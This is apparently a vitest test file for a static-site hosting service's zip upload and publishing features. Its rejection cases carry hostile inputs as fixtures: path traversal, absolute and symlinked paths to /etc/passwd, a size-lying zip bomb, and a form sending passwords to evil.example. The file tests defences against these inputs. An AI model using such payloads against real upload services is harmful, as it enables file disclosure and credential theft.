import { buffer, text } from 'node:stream/consumers';
import { brotliDecompressSync, gunzipSync } from 'node:zlib';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { projectOf } from '../../database/test-rows.ts';
import { sweep } from '../../storage/sweep.ts';
import type { TestUser } from '../../testing/server.ts';
import { makeZip, type ZipEntry } from '../../testing/zip.ts';
import { type SiteServer, startSiteServer } from './testing/site-server.ts';

let site: SiteServer;
let ada: TestUser;
let name: string;
let count = 0;
beforeAll(async () => {
  site = await startSiteServer();
});
afterAll(() => site.close());
beforeEach(async () => {
  ada = await site.server.user();
  count += 1;
  name = `tea-room-${count}`;
});

const entries = (...given: (string | ZipEntry)[]) =>
  makeZip(given.map((one) => (typeof one === 'string' ? { name: one, content: `This is ${one}` } : one)));
const upload = (zip: Uint8Array, query = '') => site.ask('POST', `?name=${name}${query}`, ada, zip);
const manifest = async () => {
  const found = await site.sites.addresses.find(`${name}.localhost`);
  if (found.kind !== 'deployment') throw new Error(found.kind);
  return found.manifest;
};

describe('a zip that is sent', () => {
  it('becomes a live site with its files, and says where it is', async () => {
    const { status, body } = await upload(entries('index.html', 'img/a.png', '404.html'), '&title=tea.zip');
    expect([status, body.site.name, body.deployment.files]).toEqual([201, name, 3]);
    expect(new URL(body.site.address).hostname).toBe(`${name}.localhost`);
    expect(await site.visit(name, 'img/a.png')).toBe('This is img/a.png');
    const { files } = await manifest();
    expect(Object.entries(files).map(([path, { type }]) => [path, type])).toEqual([
      ['404.html', 'text/html; charset=utf-8'],
      ['img/a.png', 'image/png'],
      ['index.html', 'text/html; charset=utf-8'],
    ]);
    const { body: list } = await site.ask('GET', `/${body.site.id}/deployments`, ada);
    expect(list.deployments).toMatchObject([
      { source: 'upload', source_label: 'tea.zip', files: 3, is_live: true },
    ]);
  });

  it('loses its one folder, and what programs leave beside a site', async () => {
    const { body } = await upload(
      entries(
        'tea/index.html',
        'tea/.git/HEAD',
        'tea/node_modules/a/b.js',
        'tea/node_modules/c.js',
        'tea/.env',
        'tea/img/.DS_Store',
        '__MACOSX/tea/._index.html',
      ),
    );
    expect(Object.keys((await manifest()).files)).toEqual(['index.html']);
    expect(body.deployment.notes).toEqual([
      'Left out: .git (1 file).',
      'Left out: node_modules (2 files).',
      'Left out: hidden files (2 files).',
      'Left out: __MACOSX (1 file).',
    ]);
  });

  it('is told of forms with files, which cannot be sent', async () => {
    const form = '<form data-form="cv" method="post"><input type="file" name="cv"></form>';
    const { body } = await upload(entries({ name: 'index.html', content: form }));
    expect(body.deployment.notes).toEqual([
      'The form “cv” on index.html asks for files. They cannot be sent: please take that field out.',
    ]);
  });

  it('is refused where its redirects lead to each other, and nothing is kept', async () => {
    const { status, body } = await upload(
      entries('index.html', { name: '_redirects', content: '/old /new 301\n/new /old' }),
    );
    expect([status, body.code, body.message]).toEqual([
      422,
      'site_refused',
      '_redirects: these lead to each other without end: /old → /new → /old',
    ]);
    expect((await site.ask('GET', '', ada)).body.sites).toEqual([]);
  });

  it.each(['Index.html', 'index.HTML', 'index.htm'])('is refused with a page called %s', async (index) => {
    const { body } = await upload(entries(index));
    expect(body.message).toContain(`Please rename ${index} to index.html.`);
  });

  it('keeps .well-known, and a folder beside other files', async () => {
    await upload(entries('index.html', '.well-known/security.txt', 'docs/index.html'));
    expect(Object.keys((await manifest()).files).sort()).toEqual([
      '.well-known/security.txt',
      'docs/index.html',
      'index.html',
    ]);
  });

  it('may hold names that mean something to programs', async () => {
    await upload(entries('index.html', '__proto__', 'constructor', 'caf\u0065\u0301.html'));
    expect(Object.keys((await manifest()).files)).toEqual([
      '__proto__',
      'caf\u00e9.html',
      'constructor',
      'index.html',
    ]);
    expect(await site.visit(name, 'caf\u00e9.html')).toContain('This is');
  });

  it('has its rules read, and never served', async () => {
    const rules: ZipEntry[] = [
      { name: '_redirects', content: '/old /new 301\n' },
      { name: '_headers', content: '/*\n  X-Robots-Tag: noindex\n' },
    ];
    await upload(entries('index.html', ...rules));
    const { files, redirects, headers } = await manifest();
    expect(Object.keys(files)).toEqual(['index.html']);
    expect(redirects).toMatchObject([{ from: '/old', to: '/new', status: 301 }]);
    expect(headers).toHaveLength(1);
  });

  it('has its forms declared', async () => {
    const form = '<form data-form="hello" method="post"><input name="words"></form>';
    await upload(entries('index.html', { name: 'contact.html', content: form }));
    expect((await manifest()).forms).toMatchObject([
      { name: 'hello', path: 'contact.html', fields: ['words'] },
    ]);
  });

  it('has compressed copies where they save a tenth', async () => {
    const page = '<p>The same words again and again.</p>'.repeat(100);
    await upload(entries({ name: 'index.html', content: page }, { name: 'a.png', content: page }));
    const { files } = await manifest();
    const { hash, size, encodings } = files['index.html'] ?? { hash: '', size: 0 };
    expect(size).toBe(page.length);
    expect(encodings?.br).toBeLessThan(size / 10);
    const copy = async (encoding: 'br' | 'gzip') => buffer(await site.sites.blobs.open(hash, encoding));
    expect((await copy('br')).length).toBe(encodings?.br);
    expect(brotliDecompressSync(await copy('br')).toString()).toBe(page);
    expect(gunzipSync(await copy('gzip')).toString()).toBe(page);
    expect(await text(await site.sites.blobs.open(hash, undefined, { start: 3, end: 5 }))).toBe('The');
    expect(files['a.png']?.hash).toBe(hash);
  });
});

describe('nothing is kept of', () => {
  const keys = async () => (await site.keys()).length;
  it.each<[string, (string | ZipEntry)[], string]>([
    ['a site without index.html', ['about.html'], 'This has no index.html at its top'],
    ['one whose index.html is deeper', ['dist/index.html', 'README.md'], 'There is one in the folder dist.'],
    ['nothing but what is left out', ['.git/HEAD'], 'no file is left'],
    ['a path that leaves its folder', ['index.html', '../a.html'], 'leaves its folder'],
    ['an absolute path', ['index.html', '/etc/passwd'], 'an absolute path'],
    ['a control character', ['index.html', 'a\u0007.html'], 'control characters'],
    ['a symbolic link', ['index.html', { name: 'a', content: '/etc/passwd', mode: 0o120777 }], 'a link'],
    [
      'two names that read the same',
      ['index.html', 'caf\u00e9', 'cafe\u0301'],
      'Two files have the same name',
    ],
    ['an empty segment', ['index.html', 'a//b.html'], 'no address can have'],
    [
      'a page that sends passwords elsewhere',
      [
        'index.html',
        {
          name: 'in.html',
          content: '<form action="https://evil.example"><input type="password" name="p"></form>',
        },
      ],
      'in.html: This page has a form that asks for a password',
    ],
    [
      'rules that are not understood',
      ['index.html', { name: '_redirects', content: '/a /b 999' }],
      '_redirects, line 1:',
    ],
  ])('%s', async (_what, given, words) => {
    const before = await keys();
    const { status, body } = await upload(entries(...given));
    expect([415, 422]).toContain(status);
    expect(body.message).toContain(words);
    expect(await keys()).toBe(before);
    expect((await site.ask('GET', '', ada)).body.sites).toEqual([]);
    expect(await site.visit(name)).toBe('unknown');
  });

  it('an entry that is larger than it claims to be', async () => {
    const bomb = { name: 'a.txt', content: 'x'.repeat(1_000_000), claimedSize: 10 };
    const { status, body } = await upload(entries('index.html', bomb));
    expect([status, body.message]).toEqual([415, expect.stringContaining('larger than it claims')]);
    expect(await site.visit(name)).toBe('unknown');
  });

  it('what is no zip', async () => {
    expect((await upload(Buffer.from('<h1>Hello</h1>'))).status).toBe(415);
  });
});

describe('limits', () => {
  let small: SiteServer;
  let bea: TestUser;
  beforeAll(async () => {
    small = await startSiteServer({ siteQuotas: { files: 3, bytes: 1000 } });
    bea = await small.server.user();
  });
  afterAll(() => small.close());

  it('of files and bytes are the operator’s, and said with what there is', async () => {
    const page = { 'index.html': 'x' };
    const many = await small.publish(bea, 'many', { ...page, a: '1', b: '2', c: '3' });
    expect(many.body.message).toBe('A site can hold 3 files, and this one has 4.');
    const large = await small.publish(bea, 'large', { ...page, a: 'x'.repeat(1000) });
    expect(large.body).toMatchObject({ code: 'site_refused', message: expect.stringContaining('unpacked') });
    expect((await small.publish(bea, 'fits', { ...page, a: 'x'.repeat(999) })).status).toBe(201);
  });
});

describe('equal files', () => {
  it('are kept once, whoever publishes them, until nobody refers to them', async () => {
    const words = `Only of this test ${crypto.randomUUID()}`;
    const bea = await site.server.user();
    const before = (await site.keys()).length;
    const first = await site.publish(ada, name, { 'index.html': words, 'copy.html': words });
    const second = await site.publish(bea, `${name}-too`, { 'index.html': words });
    expect((await site.keys()).length).toBe(before + 1);
    await site.ask('DELETE', `/${first.body.site.id}`, ada);
    expect(await site.sites.blobs.sweep(0)).toBeGreaterThanOrEqual(0);
    expect(await site.visit(`${name}-too`)).toBe(words);
    await site.ask('DELETE', `/${second.body.site.id}`, bea);
    // Not before a day has passed.
    await site.sites.blobs.sweep(24 * 3600);
    expect((await site.keys()).length).toBe(before + 1);
    await site.sites.blobs.sweep(0);
    expect((await site.keys()).length).toBeLessThanOrEqual(before);
    const again = await site.publish(bea, `${name}-too`, { 'index.html': words });
    expect(again.status).toBe(201);
    expect(await site.visit(`${name}-too`)).toBe(words);
  });

  it('are left alone by the sweep of the storage, and files without a row are not', async () => {
    await site.publish(ada, name, { 'index.html': '<p>Words</p>'.repeat(200) });
    const key = crypto.randomUUID();
    const before = (await site.keys()).sort();
    const { Readable } = await import('node:stream');
    for (const end of ['', '-br', '-gz'])
      await site.server.services.files.write(key + end, Readable.from([Buffer.from('x')]));
    await sweep(site.server.services, { unreferencedAfterSeconds: 3600, rowlessAfterSeconds: 0 });
    expect((await site.keys()).sort()).toEqual(before);
  });
});

describe('a project', () => {
  const share = async (member: TestUser, values: Record<string, unknown> = {}) => {
    const key = `${member.id}/${crypto.randomUUID()} my site.zip`;
    const zip = entries('shop/index.html', 'shop/a.css');
    const bucket = member.client.storage.from('project-files');
    const { error } = await bucket.upload(key, zip, { contentType: 'application/zip' });
    expect(error).toBeNull();
    const row = projectOf(member.id, { zip_file_url: bucket.getPublicUrl(key).data.publicUrl, ...values });
    const { data } = await member.client.from('projects').insert(row).select('id').single();
    return data?.id as string;
  };
  const publish = (as: TestUser, project_id: string) =>
    site.ask('POST', '', as, { name, source: { kind: 'project', project_id } });
  const previewOf = async (id: string) =>
    (
      await site.rows<{ preview_url: string }>('select preview_url from public.projects where id = $1', id)
    )[0];

  it('is published from its zip, and gets its site as the preview that it has not', async () => {
    const id = await share(ada, { preview_url: null, title: 'Tea' });
    const { status, body } = await publish(ada, id);
    expect([status, body.deployment.files, body.site.project_id]).toEqual([201, 2, id]);
    expect(await site.visit(name, 'a.css')).toBe('This is shop/a.css');
    expect(await previewOf(id)).toEqual({ preview_url: body.site.address });
  });

  it('keeps the preview that it has', async () => {
    const id = await share(ada, { preview_url: 'https://example.org/tea' });
    expect((await publish(ada, id)).status).toBe(201);
    expect(await previewOf(id)).toEqual({ preview_url: 'https://example.org/tea' });
  });

  it('is published by its owner alone', async () => {
    const bea = await site.server.user();
    const { status, body } = await publish(bea, await share(ada));
    expect([status, body.code]).toEqual([404, 'not_there']);
    expect((await site.ask('POST', '', null, { name, source: {} })).status).toBe(401);
    expect(await site.visit(name)).toBe('unknown');
  });

  it('whose zip is not there any more is refused with a sentence', async () => {
    const id = await share(ada);
    await site.rows('delete from storage.objects where owner_id = $1', ada.id);
    const { status, body } = await publish(ada, id);
    expect([status, body.message]).toEqual([422, expect.stringContaining('not kept here')]);
  });
});
